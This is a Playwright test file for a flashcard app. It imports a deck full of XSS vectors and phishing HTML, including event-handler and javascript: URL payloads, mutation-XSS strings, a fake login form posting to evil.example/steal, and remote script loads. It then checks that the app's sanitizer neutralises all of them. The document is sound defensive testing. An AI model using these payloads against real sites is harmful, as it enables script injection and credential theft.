// An imported deck full of classic XSS vectors and phishing HTML: nothing runs (no dialog, no
// global flag, no navigation), posts, restyles or covers the app, and no request leaves 127.0.0.1.
import { writeFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';

// Every vector that could run sets window.__xss (or opens a dialog, or navigates away).
const VECTORS = [
  '<script>window.__xss=1</script>',
  '<img src=x onerror="window.__xss=2">',
  '<svg onload="window.__xss=3"></svg>',
  '<body onload="window.__xss=4">',
  '<iframe src="javascript:parent.__xss=5"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>',
  '<a href="javascript:window.__xss=7">v7</a>',
  '<a href="JaVaScRiPt:window.__xss=8">v8</a>',
  '<a href="&#106;avascript:window.__xss=9">v9</a>',
  '<a href="java&#x09;script:window.__xss=10">v10</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=11"></style></mglyph></table></mtext></math>',
  '<svg><script>window.__xss=12</script></svg>',
  '<svg><animate onbegin="window.__xss=13" attributeName="x" dur="1s"></animate></svg>',
  '<svg><a xlink:href="javascript:window.__xss=14"><text x="0" y="10">v14</text></a></svg>',
  '<svg><set attributeName="onmouseover" to="window.__xss=15"/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<object data="javascript:window.__xss=17"></object>',
  '<embed src="data:text/html,<script>parent.__xss=18</script>">',
  '<iframe src="data:text/html,<script>parent.__xss=19</script>"></iframe>',
  '<details open ontoggle="window.__xss=20"><summary>v20</summary></details>',
  '<video><source onerror="window.__xss=21"></video>',
  '<audio src=x onerror="window.__xss=22"></audio>',
  '<input autofocus onfocus="window.__xss=23">',
  '<marquee onstart="window.__xss=24">v24</marquee>',
  '<div onmouseover="window.__xss=25">v25</div>',
  '<a href="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MzA8L3NjcmlwdD4=">v30</a>',
  '<base href="https://evil.example/">',
  '<link rel="import" href="https://evil.example/x.html">',
  "<style>@import 'https://evil.example/x.css';</style>",
  '<div style="background:url(javascript:window.__xss=34)">v34</div>',
  '<table background="javascript:window.__xss=35"><tr><td>v35</td></tr></table>',
  '<isindex action="javascript:window.__xss=36" type=image>',
  '<button formaction="javascript:window.__xss=37">v37</button>',
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='window.__xss=38'/></svg>#x"></use></svg>`,
  '<img src="x:alert(1)" onerror="window.__xss=39">',
  '<template><img src=x onerror="window.__xss=40"></template>',
  '<textarea><img src=x onerror="window.__xss=41"></textarea>',
  '<xmp><img src=x onerror=window.__xss=42></xmp>',
  '<svg><foreignObject><img src=x onerror="window.__xss=43"></foreignObject></svg>',
  '<a href="vbscript:msgbox(44)">v44</a>',
  '[v45](javascript:window.__xss=45)',
  '![v46](javascript:window.__xss=46)',
  '<img src=x onerror=alert(47)>',
  '<script src="https://evil.example/x.js"></script>',
  '<frameset onload=window.__xss=49>',
  '<svg><style>svg{background:url(https://evil.example/s.png)}</style></svg>',
  '<a href="#" onclick="window.__xss=51">v51</a>',
  '<img src="https://evil.example/track.png">',
  '![v53](https://evil.example/track2.png)',
  '<svg><image href="https://evil.example/i.png"/></svg>',
  '<picture><source srcset="https://evil.example/p.png"><img src="x"></picture>',
];

// Vectors that leave tags open (mutation XSS): they may swallow what follows, so they come last.
const OPEN_ENDED = [
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=26>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="window.__xss=27">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=28>">',
  '<img src="x" onerror=window.__xss=29 //',
];

// Phishing and defacing HTML that is not script at all.
const HTML_CASES = [
  '<form action="https://evil.example/steal" method="post"><p>会话已过期，请重新登录</p><input name="user"><input type="password" name="pass"><button type="submit">登录</button></form>',
  '<style>.site-header { display: none !important; } body { background: red !important; }</style>',
  '<div style="position:fixed;inset:0;z-index:99999;background:#fff" id="overlay">全屏覆盖</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<div style="background-image:url(https://evil.example/bg.png)">bg</div>',
];

function deck(): string {
  const list = (items: string[], from: number) => items.map((v, i) => `vector ${from + i}: ${v}`).join('\n\n');
  const body = list([...VECTORS, ...HTML_CASES], 1);
  const link = `[协议相对链接](//127.0.0.1:${process.env.PORT || 4173}/settings)`;
  return `---\nid: xss-corpus\ntitle: 向量\ntitle_en: Vectors\norder: 90\n---\n\n## 这张卡安全吗？ {#xss-card}\nen: Is this card safe?\n\n一句话：安全。\n\n${body}\n\n最后一行 last line ${link}\n\n${list(OPEN_ENDED, 100)}\n`;
}

test('none of the XSS vectors and phishing HTML in an imported deck runs, posts, restyles, covers or loads from afar', async ({ page }, testInfo) => {
  expect(VECTORS.length + OPEN_ENDED.length).toBeGreaterThanOrEqual(40);
  const offsite: string[] = [];
  const dialogs: string[] = [];
  const navigations: string[] = [];
  const errors: string[] = [];
  page.on('request', (r) => {
    const url = new URL(r.url());
    if (url.protocol !== 'data:' && url.protocol !== 'blob:' && url.hostname !== '127.0.0.1') offsite.push(r.url());
  });
  await page.route(
    (url) => url.protocol.startsWith('http') && url.hostname !== '127.0.0.1',
    (route) => route.abort(),
  );
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('framenavigated', (f) => {
    if (f === page.mainFrame() && !f.url().startsWith('http://127.0.0.1')) navigations.push(f.url());
  });
  page.on('pageerror', (e) => errors.push(e.message));

  await page.goto('/settings');
  const file = testInfo.outputPath('xss-corpus.md');
  await writeFile(file, deck());
  await page.getByTestId('import-deck-input').setInputFiles(file);
  await expect(page.getByText('已导入卡组: xss-corpus.md')).toBeVisible();

  await page.goto('/cards/xss-card');
  const answer = page.locator('.answer');
  await expect(answer).toContainText('最后一行 last line');
  // Give anything that fires late (onload, onbegin, meta refresh, animations) time to fire.
  await page.waitForTimeout(1500);
  // Hover and focus everything, as a user moving the mouse would.
  await answer.evaluate((root) => {
    for (const el of root.querySelectorAll('*')) {
      el.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
      (el as HTMLElement).focus?.();
    }
  });

  expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(navigations).toEqual([]);
  expect(page.url()).toMatch(/\/cards\/xss-card$/);
  expect(offsite).toEqual([]);

  const leftovers = await answer.evaluate((root) => {
    const all = [...root.querySelectorAll('*')];
    return {
      tags: [
        ...new Set(
          all
            .map((e) => e.tagName.toLowerCase())
            .filter((t) =>
              /^(script|style|link|meta|base|form|input|button|textarea|select|iframe|object|embed|frame|frameset|template|foreignobject|animate|set)$/.test(t),
            ),
        ),
      ],
      handlers: all.flatMap((e) => [...e.attributes].filter((a) => a.name.startsWith('on')).map((a) => `${e.tagName}.${a.name}`)),
      styled: all.filter((e) => e.hasAttribute('style')).length,
      scriptUrls: all.flatMap((e) => [...e.attributes].filter((a) => /^\s*(javascript|vbscript|data:text)/i.test(a.value)).map((a) => a.value)),
      fixed: all.filter((e) => getComputedStyle(e).position === 'fixed').length,
    };
  });
  expect(leftovers).toEqual({ tags: [], handlers: [], styled: 0, scriptUrls: [], fixed: 0 });

  // The app looks like itself: header shown, its background untouched, the centre is app content.
  await expect(page.locator('.site-header')).toBeVisible();
  const look = await page.evaluate(() => {
    const el = document.elementFromPoint(innerWidth / 2, innerHeight / 2);
    return {
      inRoot: !!el && document.getElementById('root')!.contains(el),
      overlay: !!el?.closest('#overlay'),
      bodyBg: getComputedStyle(document.body).backgroundColor,
    };
  });
  expect(look.inRoot).toBe(true);
  expect(look.overlay).toBe(false);
  expect(look.bodyBg).not.toBe('rgb(255, 0, 0)');

  // A protocol-relative link is another site to the router: the browser opens it, nothing throws.
  const link = answer.getByRole('link', { name: '协议相对链接' });
  await expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  const popup = page.waitForEvent('popup');
  await link.click();
  await (await popup).close();
  expect(errors).toEqual([]);
  expect(page.url()).toMatch(/\/cards\/xss-card$/);
});
